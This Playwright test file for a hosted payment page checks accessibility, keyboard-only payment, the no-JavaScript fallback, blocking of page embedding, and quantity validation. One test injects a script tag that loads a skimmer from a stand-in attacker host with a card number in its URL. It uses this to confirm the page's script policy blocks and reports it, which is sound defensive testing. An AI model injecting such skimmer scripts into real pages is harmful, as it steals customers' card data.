import type { Page } from '@playwright/test';
import { languages } from '../../accessibility.ts';
import { describeFault, findFaults } from '../../axe.ts';
import { tell } from '../../backend.ts';
import { fillBank, fillCard, fillCustomer, makeLink, ownAmount, received, test } from '../../hosted-page.ts';
import { expect } from '../../portal-test.ts';

async function expectUsable(page: Page, name: string): Promise<void> {
  expect((await findFaults(page)).map(describeFault), name).toEqual([]);
  const overflow = await page.evaluate(
    () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
  );
  expect(overflow, `${name}: wider than the screen`).toBe(0);
}

/** In each theme and at each width, without a load of the page between them. */
async function expectUsableInAll(page: Page, name: string): Promise<void> {
  for (const colorScheme of ['light', 'dark'] as const) {
    await page.emulateMedia({ colorScheme });
    for (const width of [390, 1440]) {
      await page.setViewportSize({ width, height: 900 });
      await expectUsable(page, `${name}: ${colorScheme}, ${width} px`);
    }
  }
}

const everything = {
  title: 'Winter fair with a rather long name, for all of the family',
  description: 'Doors open at six.',
  taxBasisPoints: 825,
  tips: [10, 15, 20],
  amount: {
    kind: 'items' as const,
    items: [
      { name: 'Ticket with a rather long name', unitMinor: 2_500, quantity: 2, maxQuantity: 10 },
      { name: 'Program', unitMinor: 300, quantity: 1, maxQuantity: null },
    ],
  },
  customFields: [{ label: 'Size', type: 'list' as const, isRequired: true, options: ['S', 'M'] }],
};

const words = {
  en: { pay: /^Pay /, wrong: 'Check the card number' },
  vi: { pay: /^Thanh toán /, wrong: 'Hãy kiểm tra số thẻ' },
} as const;

test('the page can be used by everyone, in every look', async ({ page, signIn, newCustomer }) => {
  test.setTimeout(300_000);
  await signIn('partner.demo');
  const [link, off] = [await makeLink(page, everything), await makeLink(page)];
  await tell(page, 'hosted-payment/link/action', { id: off.id, action: 'disable' });
  for (const language of languages) {
    const theirs = await newCustomer({ locale: language === 'vi' ? 'vi-VN' : 'en-US' });
    await theirs.goto(`/pay/${link.code}`);
    const pay = theirs.getByRole('button', { name: words[language].pay });
    await expect(pay).toBeVisible();
    await expectUsableInAll(theirs, `form in ${language}`);
    await theirs.locator('#number').fill('4242424242424241');
    await pay.click();
    await expect(theirs.getByText(words[language].wrong)).toBeVisible();
    await expectUsableInAll(theirs, `what is wrong in ${language}`);
    expect((await theirs.goto(`/pay/${off.code}`))?.status()).toBe(410);
    await expectUsableInAll(theirs, `switched off in ${language}`);
    await theirs.close();
  }
});

test('a customer pays by keys alone', async ({ page, signIn, newCustomer }) => {
  await signIn('partner.demo');
  const link = await makeLink(page, { amount: ownAmount() });
  const theirs = await newCustomer();
  await theirs.goto(`/pay/${link.code}`);
  await expect(theirs.getByLabel('Full name')).toBeVisible();
  const type = async (text: string) => {
    await theirs.keyboard.press('Tab');
    await theirs.keyboard.type(text);
  };
  await type('Ada Example');
  await type('ada.keys@example.com');
  await type('60601');
  // How to pay: a card, which is chosen already.
  await theirs.keyboard.press('Tab');
  await expect(theirs.getByLabel('Card', { exact: true })).toBeFocused();
  await type('4242424242424242');
  await type('1240');
  await type('123');
  await theirs.keyboard.press('Enter');
  await expect(received(theirs)).toBeFocused();
  await expectUsable(theirs, 'receipt');
});

test('a page without JavaScript says what is to be paid, and what to do', async ({
  page,
  signIn,
  newCustomer,
}) => {
  await signIn('partner.demo');
  const link = await makeLink(page, { title: 'Without scripts' });
  const theirs = await newCustomer({ javaScriptEnabled: false });
  await theirs.goto(`/pay/${link.code}`);
  await expect(theirs.getByRole('heading', { name: 'Without scripts' })).toBeVisible();
  await expect(theirs.getByText('$24.00')).toBeVisible();
  await expect(theirs.getByText(/turn on JavaScript/)).toBeVisible();
});

test('scripts that are not the page’s own do not run, and are reported', async ({
  page,
  signIn,
  newCustomer,
}) => {
  await signIn('partner.demo');
  const link = await makeLink(page);
  const theirs = await newCustomer();
  const reports: string[] = [];
  theirs.on('request', (request) => {
    if (/\/(report|policy)$/.test(request.url())) reports.push(request.postData() ?? '');
  });
  await theirs.goto(`/pay/${link.code}`);
  await fillCustomer(theirs, 'ada@example.com');
  await theirs
    .evaluate(() => {
      const script = document.createElement('script');
      script.setAttribute('src', 'https://evil.example/skimmer.js?card=4242424242424242');
      document.head.append(script);
    })
    .catch(() => undefined);
  await expect.poll(() => reports.join('\n')).toContain('https://evil.example/skimmer.js');
  expect(reports.join('\n')).not.toContain('4242424242424242"');
});

test.describe('a site that embeds the page', () => {
  test('may do so where its checkout page allows it, and nowhere else', async ({
    page,
    signIn,
    newCustomer,
  }) => {
    await signIn('partner.demo');
    const link = await makeLink(page, { amount: ownAmount() });
    const theirs = await newCustomer();
    // The browser says so where a frame is refused.
    const refused: string[] = [];
    theirs.on('console', (message) => refused.push(message.text()));
    // The portal is no site that was allowed either. This page of it has no policy of its own.
    const body = `<iframe title="Checkout" src="/pay/${link.code}?embed=1"></iframe>`;
    await theirs.route('**/shop', (route) => route.fulfill({ contentType: 'text/html', body }));
    await theirs.goto('/shop');
    await expect.poll(() => refused.join('\n')).toMatch(/frame-ancestors/i);
    await expect(theirs.frameLocator('iframe').getByLabel('Email')).toHaveCount(0);
  });
});

test('a bank account is asked for nothing of a card', async ({ page, signIn, newCustomer }) => {
  await signIn('partner.demo');
  const link = await makeLink(page, { amount: ownAmount() });
  const theirs = await newCustomer();
  await theirs.goto(`/pay/${link.code}`);
  await fillCard(theirs);
  await fillBank(theirs);
  await expect(theirs.getByLabel('Card number')).toHaveCount(0);
  await expectUsable(theirs, 'bank account');
});

test('who takes nothing of what is offered is told so there', async ({ page, signIn, newCustomer }) => {
  await signIn('partner.demo');
  const items = ['Ticket', 'Ticket'].map((name) => ({ name, unitMinor: 500, quantity: 1, maxQuantity: 40 }));
  const link = await makeLink(page, { amount: { kind: 'items', items } });
  const theirs = await newCustomer({ viewport: { width: 390, height: 800 } });
  await theirs.goto(`/pay/${link.code}`);
  const quantity = theirs.getByRole('textbox', { name: 'Quantity of Ticket' });
  await quantity.first().fill('0');
  await theirs.getByRole('button', { name: 'One less: Ticket' }).last().click();
  await fillCustomer(theirs, 'ada@example.com');
  await fillCard(theirs);
  await theirs.getByRole('button', { name: 'Pay', exact: true }).click();
  await expect(theirs.getByText('Choose at least one item')).toBeVisible();
  await expect(theirs.getByRole('list', { name: 'Items' })).toBeFocused();
  await expectUsable(theirs, 'nothing chosen');
  await quantity.first().fill('12');
  await expect(theirs.getByRole('button', { name: 'Pay $60.00' })).toBeEnabled();
  await quantity.last().fill('999');
  await expect(quantity.last()).toHaveValue('40');
});
